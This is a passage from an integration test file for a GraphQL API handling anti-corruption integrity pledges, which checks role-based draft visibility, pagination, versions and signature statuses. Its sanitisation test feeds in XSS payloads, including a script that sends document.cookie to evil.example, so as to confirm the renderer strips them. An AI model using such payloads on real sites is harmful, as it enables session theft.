// Integrity pledges through the GraphQL API, end to end: HTTP requests through yoga, sessions from real sign-ins,
// a fresh database for the file. Queries (visibility of drafts, pagination, filters, computed signature statuses,
// sanitised HTML) and every pledge mutation, authorised and refused for each role, with the rows checked.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DomainContext } from '../../app/domain/context.server';
import { type FieldMessage, messageArgs } from '../../app/domain/field-messages';
import { addMonthsUtc, confirmationPhrases } from '../../app/domain/pledge-rules';
import { setOrganizationVerified } from '../../app/domain/organizations.server';
import {
  closePledge,
  createPledgeDraft,
  publishPledge,
  publishPledgeVersion,
  renewPledgeSignature,
  signPledge,
  withdrawPledgeSignature,
} from '../../app/domain/pledges.server';
import { type Locale, translate } from '../../app/i18n';
import { type TestDatabase, createTestDatabase } from '../helpers/db';
import { ctxFor, makeMember, makeOrganization, makeUser } from '../helpers/fixtures';
import { type GraphQLResponse, globalId, graphqlClient, signInAs } from '../helpers/graphql';
import { PLEDGE_BODY, at, confirmationFor, draftInput, writeCounts } from '../helpers/pledges';

let t: TestDatabase;
let gql: ReturnType<typeof graphqlClient>['gql'];

// ---------------------------------------------------------------------------------------------------------------
// The cast. A partner organisation that drafts pledges (with a member in every role), another partner, a customs
// administration that signs them (a member in every role), a business association, a platform administrator and a
// signed-in user with no organisation.

type Who =
  | 'anonymous'
  | 'platformAdmin'
  | 'outsider'
  | 'partnerAdmin'
  | 'partnerSignatory'
  | 'partnerMember'
  | 'partnerLiaison'
  | 'otherPartnerSignatory'
  | 'customsAdmin'
  | 'customsSignatory'
  | 'customsMember'
  | 'customsLiaison'
  | 'businessSignatory';
type SignedIn = Exclude<Who, 'anonymous'>;
type User = Awaited<ReturnType<typeof makeUser>>;
type Org = Awaited<ReturnType<typeof makeOrganization>>;

let partner: Org;
let otherPartner: Org;
let customs: Org;
let business: Org;
const users = {} as Record<SignedIn, User>;
const tokens = {} as Record<Who, string | undefined>;
const ctxs = {} as Record<SignedIn, DomainContext>;
const as = (who: Who, acceptLanguage?: string) => ({ token: tokens[who], acceptLanguage });

beforeAll(async () => {
  t = await createTestDatabase();
  ({ gql } = graphqlClient(t));
  partner = await makeOrganization(t.db, { name: 'Silk Road Integrity Partners', kind: 'PARTNER', country: 'KZ' });
  otherPartner = await makeOrganization(t.db, { name: 'Transparent Borders Initiative', kind: 'PARTNER', country: 'UZ' });
  customs = await makeOrganization(t.db, { name: 'Caspian Customs Service', kind: 'CUSTOMS_ADMINISTRATION', country: 'KZ' });
  business = await makeOrganization(t.db, { name: 'Steppe Traders Association', kind: 'BUSINESS_ASSOCIATION', country: 'KZ' });
  users.platformAdmin = await makeUser(t.db, { platformAdmin: true });
  users.outsider = await makeUser(t.db);
  users.partnerAdmin = await makeMember(t.db, partner.id, 'ORG_ADMIN');
  users.partnerSignatory = await makeMember(t.db, partner.id, 'SIGNATORY');
  users.partnerMember = await makeMember(t.db, partner.id, 'MEMBER');
  users.partnerLiaison = await makeMember(t.db, partner.id, 'LIAISON_OFFICER');
  users.otherPartnerSignatory = await makeMember(t.db, otherPartner.id, 'SIGNATORY');
  users.customsAdmin = await makeMember(t.db, customs.id, 'ORG_ADMIN');
  users.customsSignatory = await makeMember(t.db, customs.id, 'SIGNATORY');
  users.customsMember = await makeMember(t.db, customs.id, 'MEMBER');
  users.customsLiaison = await makeMember(t.db, customs.id, 'LIAISON_OFFICER');
  users.businessSignatory = await makeMember(t.db, business.id, 'SIGNATORY');
  tokens.anonymous = undefined;
  for (const who of Object.keys(users) as SignedIn[]) {
    tokens[who] = await signInAs(t, users[who]);
    ctxs[who] = await ctxFor(t.db, users[who].id);
  }
});
afterAll(async () => t?.close());

// ---------------------------------------------------------------------------------------------------------------
// Helpers

const pledgeGid = (id: string) => globalId('Pledge', id);
const orgGid = (id: string) => globalId('Organization', id);
const signatureGid = (id: string) => globalId('PledgeSignature', id);
const REPORT = 'We published every fee schedule and trained 120 officers on the code of conduct.';
const RESULT = `__typename ... on Error { code message } ... on ValidationError { fieldErrors { path messages } }`;

const PLEDGE_FIELDS = `
  id slug status title body factors audience renewalMonths publishedAt closedAt currentVersionNumber
  ownerOrganization { id }
  versions { number title factors changeNote }`;
const SIGNATURE_FIELDS = `
  id status statement signedAt lastRenewedAt renewalDueAt superseded withdrawnAt withdrawalReason
  organization { id } pledge { id } version { number }
  progressReports { body links createdAt }`;

const CREATE = `
  mutation ($input: PledgeDraftInput!) {
    createPledgeDraft(input: $input) { ${RESULT} ... on MutationCreatePledgeDraftSuccess { data { ${PLEDGE_FIELDS} } } }
  }`;
const PUBLISH = `
  mutation ($id: ID!) {
    publishPledge(pledgeId: $id) { ${RESULT} ... on MutationPublishPledgeSuccess { data { ${PLEDGE_FIELDS} } } }
  }`;
const PUBLISH_VERSION = `
  mutation ($input: PublishPledgeVersionInput!) {
    publishPledgeVersion(input: $input) { ${RESULT} ... on MutationPublishPledgeVersionSuccess { data { ${PLEDGE_FIELDS} } } }
  }`;
const CLOSE = `
  mutation ($id: ID!) {
    closePledge(pledgeId: $id) { ${RESULT} ... on MutationClosePledgeSuccess { data { ${PLEDGE_FIELDS} } } }
  }`;
const SIGN = `
  mutation ($input: SignPledgeInput!) {
    signPledge(input: $input) { ${RESULT} ... on MutationSignPledgeSuccess { data { ${SIGNATURE_FIELDS} } } }
  }`;
const WITHDRAW = `
  mutation ($input: WithdrawPledgeSignatureInput!) {
    withdrawPledgeSignature(input: $input) { ${RESULT} ... on MutationWithdrawPledgeSignatureSuccess { data { ${SIGNATURE_FIELDS} } } }
  }`;
const RENEW = `
  mutation ($input: RenewPledgeSignatureInput!) {
    renewPledgeSignature(input: $input) { ${RESULT} ... on MutationRenewPledgeSignatureSuccess { data { ${SIGNATURE_FIELDS} } } }
  }`;

/** Everything a pledge mutation could write. A refused mutation must leave all of it as it was. */
async function dbState() {
  return {
    counts: await writeCounts(t.db),
    pledges: await t.db.pledge.findMany({
      select: { id: true, status: true, currentVersion: true, title: true, body: true, publishedAt: true, closedAt: true },
      orderBy: { id: 'asc' },
    }),
    signatures: await t.db.pledgeSignature.findMany({
      select: { id: true, withdrawnAt: true, withdrawalReason: true, supersededAt: true, lastRenewedAt: true },
      orderBy: { id: 'asc' },
    }),
  };
}

const CODES = {
  NotAuthenticatedError: 'NOT_AUTHENTICATED',
  ForbiddenError: 'FORBIDDEN',
  NotFoundError: 'NOT_FOUND',
  ConflictError: 'CONFLICT',
  ValidationError: 'VALIDATION',
} as const;
type ErrorType = keyof typeof CODES;
const DEFAULT_KEYS: Partial<Record<ErrorType, string>> = {
  NotAuthenticatedError: 'errors.notAuthenticated',
  ForbiddenError: 'errors.forbidden',
  NotFoundError: 'errors.notFound',
  ValidationError: 'errors.validation',
};

type Expected = { key?: string; fieldErrors?: Record<string, FieldMessage[]>; locale?: Locale };

/** A typed error result (not a GraphQL error), with its code, its message and (for validation) its field errors. */
function expectTypedError(res: GraphQLResponse, field: string, typename: ErrorType, { key, fieldErrors, locale = 'en' }: Expected = {}) {
  expect(res.status).toBe(200);
  expect(res.errors).toBeUndefined();
  const result = res.data[field];
  const messageKey = key ?? DEFAULT_KEYS[typename];
  expect(result).toMatchObject({ __typename: typename, code: CODES[typename] });
  if (messageKey) expect(result.message).toBe(translate(locale, messageKey));
  if (fieldErrors) {
    const expected = Object.entries(fieldErrors).map(([path, keys]) => ({ path, messages: keys.map((k) => translate(locale, ...messageArgs(k))) }));
    expect(result.fieldErrors).toEqual(expected);
  }
  return result;
}

/** Run a mutation that must be refused; check the typed error and that nothing at all was written. */
async function expectRefused(who: Who, field: string, query: string, variables: Record<string, unknown>, typename: ErrorType, expected: Expected = {}) {
  const before = await dbState();
  const res = await gql(query, variables, as(who, expected.locale));
  const result = expectTypedError(res, field, typename, expected);
  expect(await dbState()).toEqual(before);
  return result;
}

/** The data of a successful mutation result. */
function successOf(res: GraphQLResponse, field: string) {
  expect(res.errors).toBeUndefined();
  const result = res.data?.[field];
  expect(result?.__typename, JSON.stringify(result)).toBe(`Mutation${field[0].toUpperCase()}${field.slice(1)}Success`);
  return result.data;
}

const signInputFor = (pledgeId: string, org: Org, extra: Record<string, unknown> = {}) => ({
  pledgeId: pledgeGid(pledgeId),
  organizationId: orgGid(org.id),
  confirmation: confirmationFor(org),
  ...extra,
});
const domainSignInput = (pledgeId: string, org: Org, extra: Record<string, unknown> = {}) => ({
  pledgeId,
  organizationId: org.id,
  confirmation: confirmationFor(org),
  ...extra,
});

/** A published pledge (by the platform administrator unless told otherwise) through the domain. */
async function publishedPledge(overrides: Record<string, unknown> = {}, by: DomainContext = ctxs.platformAdmin) {
  const draft = await createPledgeDraft(by, draftInput(overrides));
  return publishPledge(by, { pledgeId: draft.id });
}
/** A draft owned by the partner, through the domain. */
const partnerDraft = (overrides: Record<string, unknown> = {}) =>
  createPledgeDraft(ctxs.partnerAdmin, draftInput({ ownerOrganizationId: partner.id, ...overrides }));
/** A published pledge owned by the partner. */
async function partnerPledge(overrides: Record<string, unknown> = {}) {
  const draft = await partnerDraft(overrides);
  return publishPledge(ctxs.partnerAdmin, { pledgeId: draft.id });
}

const monthsAgo = (months: number) => addMonthsUtc(new Date(), -months);
const iso = (date: Date | null | undefined) => (date ? date.toISOString() : null);
const edgesOf = (connection: { edges: { node: any }[] }) => connection.edges.map((e) => e.node);
const ids = (nodes: { id: string }[]) => nodes.map((n) => n.id);

// ---------------------------------------------------------------------------------------------------------------

describe('pledges, pledge and node: who sees drafts', () => {
  let published: { id: string; slug: string; title: string };
  let ownedDraft: { id: string; slug: string; title: string };
  let adminDraft: { id: string; slug: string; title: string };
  let otherPartnerDraft: { id: string; slug: string; title: string };

  beforeAll(async () => {
    published = await publishedPledge({ title: 'Publish every customs fee online' });
    ownedDraft = await partnerDraft({ title: 'Draft: rotate officers at every border post' });
    adminDraft = await createPledgeDraft(ctxs.platformAdmin, draftInput({ title: 'Draft: the platform’s own pledge' }));
    otherPartnerDraft = await createPledgeDraft(
      ctxs.otherPartnerSignatory,
      draftInput({ ownerOrganizationId: otherPartner.id, title: 'Draft: open customs data' }),
    );
  });

  const LIST = `
    query ($first: Int, $after: String, $status: PledgeStatus, $factor: ArushaFactor) {
      pledges(first: $first, after: $after, status: $status, factor: $factor) {
        edges { cursor node { id slug status title } }
        pageInfo { hasNextPage hasPreviousPage startCursor endCursor }
      }
    }`;
  const BY_SLUG = `query ($slug: String) { pledge(slug: $slug) { id slug status title } }`;
  const BY_ID = `query ($id: ID) { pledge(id: $id) { id slug status title } }`;
  const NODE = `query ($id: ID!) { node(id: $id) { __typename id ... on Pledge { slug status title } } }`;

  // Which of the three drafts each caller may see.
  const VISIBLE: Record<Who, ('owned' | 'admin' | 'otherPartner')[]> = {
    anonymous: [],
    outsider: [],
    partnerMember: [],
    partnerLiaison: [],
    customsAdmin: [],
    customsSignatory: [],
    customsMember: [],
    customsLiaison: [],
    businessSignatory: [],
    partnerAdmin: ['owned'],
    partnerSignatory: ['owned'],
    otherPartnerSignatory: ['otherPartner'],
    platformAdmin: ['owned', 'admin', 'otherPartner'],
  };
  const draftsBy = () => ({ owned: ownedDraft, admin: adminDraft, otherPartner: otherPartnerDraft });

  it.each(Object.keys(VISIBLE) as Who[])('pledges(status: DRAFT) lists exactly the drafts %s may manage', async (who) => {
    const res = await gql(LIST, { first: 100, status: 'DRAFT' }, as(who));
    expect(res.errors).toBeUndefined();
    const listed = new Set(ids(edgesOf(res.data.pledges)));
    const drafts = draftsBy();
    for (const [name, draft] of Object.entries(drafts)) {
      expect(listed.has(pledgeGid(draft.id)), `${who} sees the ${name} draft`).toBe(VISIBLE[who].includes(name as 'owned'));
    }
    // Whatever else is listed is a draft the caller may manage (drafts of the partner they sign for, or any for admins).
    const expectedDrafts = await t.db.pledge.findMany({
      where:
        who === 'platformAdmin'
          ? { status: 'DRAFT' }
          : {
              status: 'DRAFT',
              ownerOrganizationId: {
                in: who === 'partnerAdmin' || who === 'partnerSignatory' ? [partner.id] : who === 'otherPartnerSignatory' ? [otherPartner.id] : [],
              },
            },
    });
    expect([...listed].sort()).toEqual(expectedDrafts.map((p) => pledgeGid(p.id)).sort());
  });

  it.each(Object.keys(VISIBLE) as Who[])('pledge(slug), pledge(id) and node(id) show %s only the drafts they may see', async (who) => {
    for (const [name, draft] of Object.entries(draftsBy())) {
      const visible = VISIBLE[who].includes(name as 'owned');
      const expected = visible ? { id: pledgeGid(draft.id), slug: draft.slug, status: 'DRAFT', title: draft.title } : null;

      const bySlug = await gql(BY_SLUG, { slug: draft.slug }, as(who));
      expect(bySlug.errors, `${who}: pledge(slug) of the ${name} draft`).toBeUndefined();
      expect(bySlug.data.pledge, `${who}: pledge(slug) of the ${name} draft`).toEqual(expected);

      const byId = await gql(BY_ID, { id: pledgeGid(draft.id) }, as(who));
      expect(byId.errors, `${who}: pledge(id) of the ${name} draft`).toBeUndefined();
      expect(byId.data.pledge, `${who}: pledge(id) of the ${name} draft`).toEqual(expected);

      const node = await gql(NODE, { id: pledgeGid(draft.id) }, as(who));
      if (visible) {
        expect(node.errors).toBeUndefined();
        expect(node.data.node).toEqual({ __typename: 'Pledge', ...expected });
      } else {
        // Not readable: exactly like an unknown id (null, no error), so its existence does not leak either.
        expect(node.errors, `${who}: node of the ${name} draft`).toBeUndefined();
        expect(node.data?.node ?? null, `${who}: node of the ${name} draft`).toBeNull();
        expect(JSON.stringify(node)).not.toContain(draft.title);
        expect(JSON.stringify(node)).not.toContain(draft.slug);
      }
    }
  });

  it('shows a published pledge to everyone, by slug, by ID and as a node', async () => {
    const expected = { id: pledgeGid(published.id), slug: published.slug, status: 'PUBLISHED', title: published.title };
    for (const who of ['anonymous', 'outsider', 'customsMember'] as Who[]) {
      expect((await gql(BY_SLUG, { slug: published.slug }, as(who))).data.pledge).toEqual(expected);
      expect((await gql(BY_ID, { id: pledgeGid(published.id) }, as(who))).data.pledge).toEqual(expected);
      expect((await gql(NODE, { id: pledgeGid(published.id) }, as(who))).data.node).toEqual({ __typename: 'Pledge', ...expected });
    }
  });

  // Relay: node is null when no object has the ID (the node types are nullable, so Pothos uses findUnique).
  it.each(['Pledge', 'PledgeSignature'])('node(id) is null, not a server error, for an unknown %s ID', async (type) => {
    const res = await gql(`query ($id: ID!) { node(id: $id) { __typename id } }`, { id: globalId(type, 'no-such-id') }, as('platformAdmin'));
    expect(res.status).toBe(200);
    expect(res.errors).toBeUndefined();
    expect(res.data).toEqual({ node: null });
  });

  it('pledge() is null for an unknown slug or ID, and when given neither', async () => {
    expect(await gql(BY_SLUG, { slug: 'no-such-pledge' })).toEqual({ data: { pledge: null }, status: 200 });
    expect(await gql(BY_ID, { id: pledgeGid('no-such-pledge') })).toEqual({ data: { pledge: null }, status: 200 });
    expect(await gql(`{ pledge { id } }`)).toEqual({ data: { pledge: null }, status: 200 });
  });
});

describe('pledges: pagination and filters', () => {
  const LIST = `
    query ($first: Int, $after: String, $status: PledgeStatus, $factor: ArushaFactor) {
      pledges(first: $first, after: $after, status: $status, factor: $factor) {
        edges { cursor node { id status factors publishedAt } }
        pageInfo { hasNextPage hasPreviousPage startCursor endCursor }
      }
    }`;

  beforeAll(async () => {
    // A few of each status, with different key factors; published at different instants.
    for (let i = 0; i < 3; i++) await publishedPledge({ factors: ['AUTOMATION', 'TRANSPARENCY'] });
    await publishedPledge({ factors: ['HUMAN_RESOURCE_MANAGEMENT'] });
    const toClose = await partnerPledge({ factors: ['AUDIT_AND_INVESTIGATION', 'AUTOMATION'] });
    await closePledge(ctxs.partnerAdmin, { pledgeId: toClose.id });
    await partnerDraft({ factors: ['AUTOMATION'] });
    await partnerDraft({ factors: ['REGULATORY_FRAMEWORK'] });
    await createPledgeDraft(ctxs.platformAdmin, draftInput({ factors: ['AUTOMATION'] }));
  });

  /** Walk every page of pledges(first: size) with the given filters. */
  async function walk(who: Who, size: number, filters: Record<string, unknown> = {}) {
    const pages: any[] = [];
    let after: string | null = null;
    for (;;) {
      const res: GraphQLResponse = await gql(LIST, { first: size, after, ...filters }, as(who));
      expect(res.errors).toBeUndefined();
      pages.push(res.data.pledges);
      if (!res.data.pledges.pageInfo.hasNextPage) break;
      after = res.data.pledges.pageInfo.endCursor;
      expect(pages.length, 'too many pages: the cursor does not advance').toBeLessThan(50);
    }
    return pages;
  }

  /** The pledges a caller may list, newest first (drafts, which have no publication date, first), from the database. */
  async function expectedList(who: Who, where: Record<string, unknown> = {}) {
    const draftOwners = who === 'platformAdmin' ? undefined : who === 'partnerAdmin' || who === 'partnerSignatory' ? [partner.id] : [];
    const rows = await t.db.pledge.findMany({
      where: {
        AND: [where, draftOwners ? { OR: [{ status: { not: 'DRAFT' } }, { status: 'DRAFT', ownerOrganizationId: { in: draftOwners } }] } : {}],
      },
      orderBy: [{ publishedAt: { sort: 'desc', nulls: 'first' } }, { id: 'desc' }],
    });
    return rows.map((p) => pledgeGid(p.id));
  }

  it.each<[Who, number]>([
    ['anonymous', 2],
    ['anonymous', 3],
    ['partnerSignatory', 2],
    ['platformAdmin', 2],
    ['platformAdmin', 4],
  ])('%s pages through every visible pledge, %i at a time, newest first, drafts included', async (who, size) => {
    const pages = await walk(who, size);
    const listed = pages.flatMap((page) => ids(edgesOf(page)));
    const expected = await expectedList(who);
    expect(expected.length).toBeGreaterThan(size);
    expect(listed).toEqual(expected);
    expect(new Set(listed).size).toBe(listed.length);
    for (const [index, page] of pages.entries()) {
      expect(page.edges.length).toBe(index < pages.length - 1 ? size : expected.length - size * (pages.length - 1));
      expect(page.pageInfo.startCursor).toBe(page.edges[0].cursor);
      expect(page.pageInfo.endCursor).toBe(page.edges.at(-1).cursor);
      expect(page.pageInfo.hasNextPage).toBe(index < pages.length - 1);
    }
    expect(pages[0].pageInfo.hasPreviousPage).toBe(false);

    // Newest first: drafts (no publication date) ahead of the rest, then by publication date, latest first.
    const nodes = pages.flatMap((page) => edgesOf(page));
    const dates = nodes.map((n: { publishedAt: string | null }) => n.publishedAt);
    const firstDated = dates.findIndex((d) => d !== null);
    expect(dates.slice(firstDated).every((d) => d !== null)).toBe(true);
    const times = dates.slice(firstDated).map((d) => new Date(d!).getTime());
    expect(times).toEqual([...times].sort((a, b) => b - a));
    if (who === 'anonymous') expect(nodes.some((n: { status: string }) => n.status === 'DRAFT')).toBe(false);
    else expect(nodes.some((n: { status: string }) => n.status === 'DRAFT')).toBe(true);
  });

  it.each<[Who, string]>([
    ['anonymous', 'PUBLISHED'],
    ['anonymous', 'CLOSED'],
    ['anonymous', 'DRAFT'],
    ['platformAdmin', 'DRAFT'],
    ['platformAdmin', 'CLOSED'],
  ])('%s filters by status %s', async (who, status) => {
    const listed = (await walk(who, 3, { status })).flatMap((page) => edgesOf(page));
    expect(listed.every((n: { status: string }) => n.status === status)).toBe(true);
    expect(ids(listed)).toEqual(await expectedList(who, { status }));
    if (who === 'anonymous' && status === 'DRAFT') expect(listed).toEqual([]);
    else expect(listed.length).toBeGreaterThan(0);
  });

  it.each<[Who, string]>([
    ['anonymous', 'AUTOMATION'],
    ['partnerAdmin', 'AUTOMATION'],
    ['platformAdmin', 'AUTOMATION'],
    ['anonymous', 'AUDIT_AND_INVESTIGATION'],
    ['partnerAdmin', 'REGULATORY_FRAMEWORK'],
  ])('%s filters by key factor %s', async (who, factor) => {
    const listed = (await walk(who, 2, { factor })).flatMap((page) => edgesOf(page));
    expect(listed.length).toBeGreaterThan(0);
    expect(listed.every((n: { factors: string[] }) => n.factors.includes(factor))).toBe(true);
    expect(ids(listed)).toEqual(await expectedList(who, { factors: { has: factor } }));
  });

  it('filters by key factor and status together', async () => {
    const listed = (await walk('platformAdmin', 2, { factor: 'AUTOMATION', status: 'PUBLISHED' })).flatMap((page) => edgesOf(page));
    expect(listed.length).toBeGreaterThanOrEqual(3);
    expect(ids(listed)).toEqual(await expectedList('platformAdmin', { factors: { has: 'AUTOMATION' }, status: 'PUBLISHED' }));
    const none = await gql(LIST, { first: 5, factor: 'MORALE_AND_ORGANISATIONAL_CULTURE', status: 'CLOSED' });
    expect(none.data.pledges).toEqual({ edges: [], pageInfo: { hasNextPage: false, hasPreviousPage: false, startCursor: null, endCursor: null } });
  });
});

describe('Pledge fields, versions and sanitised bodyHtml', () => {
  const PLEDGE = `
    query ($slug: String!) {
      pledge(slug: $slug) {
        ${PLEDGE_FIELDS}
        bodyHtml
        versions { number title body bodyHtml factors changeNote publishedAt }
      }
    }`;

  it('gives the current text, every published version in order, and the owner', async () => {
    const pledge = await partnerPledge({ title: 'Fair fees at the border', factors: ['TRANSPARENCY'], audience: 'CUSTOMS', renewalMonths: 6 });
    await publishPledgeVersion(ctxs.partnerSignatory, {
      pledgeId: pledge.id,
      title: 'Fair fees at every border',
      body: `${PLEDGE_BODY}\n\nAnd at every inland post.`,
      factors: ['TRANSPARENCY', 'AUTOMATION'],
      changeNote: 'Inland posts too',
    });
    const res = await gql(PLEDGE, { slug: pledge.slug });
    expect(res.errors).toBeUndefined();
    const stored = await t.db.pledge.findUniqueOrThrow({ where: { id: pledge.id }, include: { versions: { orderBy: { number: 'asc' } } } });
    expect(res.data.pledge).toMatchObject({
      id: pledgeGid(pledge.id),
      slug: pledge.slug,
      status: 'PUBLISHED',
      title: 'Fair fees at every border',
      body: `${PLEDGE_BODY}\n\nAnd at every inland post.`,
      factors: ['TRANSPARENCY', 'AUTOMATION'],
      audience: 'CUSTOMS',
      renewalMonths: 6,
      publishedAt: iso(stored.publishedAt),
      closedAt: null,
      currentVersionNumber: 2,
      ownerOrganization: { id: orgGid(partner.id) },
    });
    expect(res.data.pledge.versions).toEqual([
      {
        number: 1,
        title: 'Fair fees at the border',
        body: PLEDGE_BODY,
        bodyHtml: expect.stringContaining('<h2>Our commitment</h2>'),
        factors: ['TRANSPARENCY'],
        changeNote: null,
        publishedAt: iso(stored.versions[0].publishedAt),
      },
      {
        number: 2,
        title: 'Fair fees at every border',
        body: `${PLEDGE_BODY}\n\nAnd at every inland post.`,
        bodyHtml: expect.stringContaining('<p>And at every inland post.</p>'),
        factors: ['TRANSPARENCY', 'AUTOMATION'],
        changeNote: 'Inland posts too',
        publishedAt: iso(stored.versions[1].publishedAt),
      },
    ]);
    expect(res.data.pledge.bodyHtml).toContain('<strong>refuse</strong>');
  });

  it('renders bodyHtml without script, images, frames, event handlers or javascript: links', async () => {
    const body = [
      '## Our commitment',
      '',
      'We refuse every facilitation payment. <script>alert(1)</script>',
      '',
      '<img src=x onerror=alert(1)>',
      '',
      '<iframe src="https://evil.example"></iframe>',
      '',
      '[x](javascript:alert(1))',
      '',
      '<script>document.location="https://evil.example/?c="+document.cookie</script>',
    ].join('\n');
    const pledge = await publishedPledge({ body });
    const res = await gql(PLEDGE, { slug: pledge.slug }, as('anonymous'));
    expect(res.errors).toBeUndefined();
    // The Markdown source is returned as written; only the HTML is sanitised.
    expect(res.data.pledge.body).toBe(body);
    for (const html of [res.data.pledge.bodyHtml, res.data.pledge.versions[0].bodyHtml]) {
      expect(html).toContain('<h2>Our commitment</h2>');
      expect(html).toContain('We refuse every facilitation payment.');
      expect(html).toMatch(/<a[^>]*>x<\/a>/);
      for (const forbidden of [/<script/i, /<img/i, /<iframe/i, /onerror/i, /javascript:/i, /evil\.example/i, /document\.cookie/i]) {
        expect(html).not.toMatch(forbidden);
      }
    }
  });
});

describe('signatures: computed status, renewal dates, filters and counts', () => {
  // One pledge with a 12-month renewal period, signed by four organisations of its own:
  // lapsed (signed 13 months ago), withdrawn, renewed (with a progress report) and freshly signed.
  let pledge: { id: string; slug: string };
  let lapsedOrg: Org, withdrawnOrg: Org, renewedOrg: Org, freshOrg: Org;
  const sig = {} as Record<'lapsed' | 'withdrawn' | 'renewed' | 'fresh', { id: string }>;
  let otherPledge: { id: string };
  let otherSignature: { id: string };

  beforeAll(async () => {
    pledge = await publishedPledge({ renewalMonths: 12, title: 'Renew every year' });
    lapsedOrg = await makeOrganization(t.db, { kind: 'CUSTOMS_ADMINISTRATION', name: 'Aral Customs Committee' });
    withdrawnOrg = await makeOrganization(t.db, { kind: 'CUSTOMS_ADMINISTRATION', name: 'Bishkek Customs Service' });
    renewedOrg = await makeOrganization(t.db, { kind: 'BUSINESS_ASSOCIATION', name: 'Tashkent Traders Union' });
    freshOrg = await makeOrganization(t.db, { kind: 'BUSINESS_ASSOCIATION', name: 'Dushanbe Freight Forwarders' });
    const signer = async (org: Org) => ctxFor(t.db, (await makeMember(t.db, org.id, 'SIGNATORY')).id);
    const lapsedCtx = await signer(lapsedOrg);
    const withdrawnCtx = await signer(withdrawnOrg);
    const renewedCtx = await signer(renewedOrg);
    const freshCtx = await signer(freshOrg);

    sig.lapsed = await signPledge(at(lapsedCtx, monthsAgo(13)), domainSignInput(pledge.id, lapsedOrg, { statement: 'We signed long ago.' }));
    sig.withdrawn = await signPledge(at(withdrawnCtx, monthsAgo(5)), domainSignInput(pledge.id, withdrawnOrg));
    await withdrawPledgeSignature(at(withdrawnCtx, monthsAgo(1)), { signatureId: sig.withdrawn.id, reason: 'Our board decided to leave the programme.' });
    sig.renewed = await signPledge(at(renewedCtx, monthsAgo(4)), domainSignInput(pledge.id, renewedOrg));
    await renewPledgeSignature(at(renewedCtx, monthsAgo(2)), {
      signatureId: sig.renewed.id,
      report: REPORT,
      links: ['https://traders.example/report-2027.pdf'],
    });
    sig.fresh = await signPledge(freshCtx, domainSignInput(pledge.id, freshOrg, { statement: 'Proud to sign.' }));
    // The lapsed organisation's signature of another pledge, still active.
    otherPledge = await publishedPledge({ renewalMonths: 12 });
    otherSignature = await signPledge(lapsedCtx, domainSignInput(otherPledge.id, lapsedOrg));
  });

  const SIGNATURES = `
    query ($slug: String!, $first: Int, $after: String, $status: SignatureStatus) {
      pledge(slug: $slug) {
        signatureCount
        active: signatureCount(status: ACTIVE)
        lapsed: signatureCount(status: LAPSED)
        withdrawn: signatureCount(status: WITHDRAWN)
        signatures(first: $first, after: $after, status: $status) {
          edges { cursor node { ${SIGNATURE_FIELDS} } }
          pageInfo { hasNextPage endCursor }
        }
      }
    }`;

  it('lists current signatures oldest first, with status, renewal due date, withdrawal reason and progress reports', async () => {
    const res = await gql(SIGNATURES, { slug: pledge.slug, first: 10 });
    expect(res.errors).toBeUndefined();
    const rows = await t.db.pledgeSignature.findMany({ where: { pledgeId: pledge.id }, include: { progressReports: true } });
    const row = (id: string) => rows.find((r) => r.id === id)!;
    const nodes = edgesOf(res.data.pledge.signatures);
    expect(ids(nodes)).toEqual([sig.lapsed, sig.withdrawn, sig.renewed, sig.fresh].map((s) => signatureGid(s.id)));
    const [lapsed, withdrawn, renewed, fresh] = nodes;

    expect(lapsed).toEqual({
      id: signatureGid(sig.lapsed.id),
      status: 'LAPSED',
      statement: 'We signed long ago.',
      signedAt: iso(row(sig.lapsed.id).signedAt),
      lastRenewedAt: iso(row(sig.lapsed.id).signedAt),
      renewalDueAt: iso(addMonthsUtc(row(sig.lapsed.id).signedAt, 12)),
      superseded: false,
      withdrawnAt: null,
      withdrawalReason: null,
      organization: { id: orgGid(lapsedOrg.id) },
      pledge: { id: pledgeGid(pledge.id) },
      version: { number: 1 },
      progressReports: [],
    });
    expect(new Date(lapsed.renewalDueAt).getTime()).toBeLessThan(Date.now());

    expect(withdrawn).toMatchObject({
      status: 'WITHDRAWN',
      withdrawnAt: iso(row(sig.withdrawn.id).withdrawnAt),
      withdrawalReason: 'Our board decided to leave the programme.',
      organization: { id: orgGid(withdrawnOrg.id) },
      progressReports: [],
    });

    const renewedRow = row(sig.renewed.id);
    expect(renewed).toMatchObject({
      status: 'ACTIVE',
      signedAt: iso(renewedRow.signedAt),
      lastRenewedAt: iso(renewedRow.lastRenewedAt),
      renewalDueAt: iso(addMonthsUtc(renewedRow.lastRenewedAt, 12)),
      withdrawalReason: null,
      progressReports: [{ body: REPORT, links: ['https://traders.example/report-2027.pdf'], createdAt: iso(renewedRow.lastRenewedAt) }],
    });
    expect(renewedRow.lastRenewedAt.getTime()).toBeGreaterThan(renewedRow.signedAt.getTime());

    expect(fresh).toMatchObject({ status: 'ACTIVE', statement: 'Proud to sign.', organization: { id: orgGid(freshOrg.id) } });
    expect(new Date(fresh.renewalDueAt).getTime()).toBeGreaterThan(Date.now());

    expect(res.data.pledge).toMatchObject({ signatureCount: 4, active: 2, lapsed: 1, withdrawn: 1 });
  });

  it.each([
    ['ACTIVE', ['renewed', 'fresh']],
    ['LAPSED', ['lapsed']],
    ['WITHDRAWN', ['withdrawn']],
  ] as const)('filters signatures by status %s', async (status, expected) => {
    const res = await gql(SIGNATURES, { slug: pledge.slug, first: 10, status });
    expect(res.errors).toBeUndefined();
    const nodes = edgesOf(res.data.pledge.signatures);
    expect(ids(nodes)).toEqual(expected.map((name) => signatureGid(sig[name].id)));
    expect(nodes.every((n: { status: string }) => n.status === status)).toBe(true);
  });

  it('pages through signatures with cursors', async () => {
    const first = await gql(SIGNATURES, { slug: pledge.slug, first: 3 });
    expect(ids(edgesOf(first.data.pledge.signatures))).toEqual([sig.lapsed, sig.withdrawn, sig.renewed].map((s) => signatureGid(s.id)));
    expect(first.data.pledge.signatures.pageInfo.hasNextPage).toBe(true);
    const rest = await gql(SIGNATURES, { slug: pledge.slug, first: 3, after: first.data.pledge.signatures.pageInfo.endCursor });
    expect(ids(edgesOf(rest.data.pledge.signatures))).toEqual([signatureGid(sig.fresh.id)]);
    expect(rest.data.pledge.signatures.pageInfo.hasNextPage).toBe(false);

    const active = await gql(SIGNATURES, { slug: pledge.slug, first: 1, status: 'ACTIVE' });
    expect(ids(edgesOf(active.data.pledge.signatures))).toEqual([signatureGid(sig.renewed.id)]);
    const activeRest = await gql(SIGNATURES, { slug: pledge.slug, first: 1, status: 'ACTIVE', after: active.data.pledge.signatures.pageInfo.endCursor });
